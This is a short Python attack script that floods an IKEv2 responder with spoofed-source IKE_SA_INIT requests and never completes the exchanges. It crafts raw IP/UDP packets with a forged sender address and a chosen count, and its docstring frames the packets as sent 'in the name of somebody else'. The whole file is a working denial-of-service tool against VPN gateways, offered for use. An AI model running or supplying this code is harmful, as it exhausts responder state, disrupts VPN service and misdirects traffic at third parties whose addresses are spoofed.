"""Begins IKE SAs in the name of somebody else, and never goes on: half-open.py FROM TO COUNT.

Each is an IKE_SA_INIT request (RFC 7296 §1.2) that a responder with AES-GCM-256, PRF-HMAC-SHA2-384 and Curve25519 takes.
"""

import os
import socket
import struct
import sys


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def request():
    transforms = transform(False, 1, 20, struct.pack("!HH", 0x800E, 256)) + transform(False, 2, 6) + transform(True, 4, 31)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    exchange = struct.pack("!HH", 31, 0) + os.urandom(32)
    body = payload(34, proposal) + payload(40, exchange) + payload(0, os.urandom(32))
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def datagram(source, destination, data):
    udp = struct.pack("!HHHH", 500, 500, 8 + len(data), 0) + data
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    return header + socket.inet_aton(source) + socket.inet_aton(destination) + udp


source, destination, count = sys.argv[1:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(int(count)):
    raw.sendto(datagram(source, destination, request()), (destination, 0))
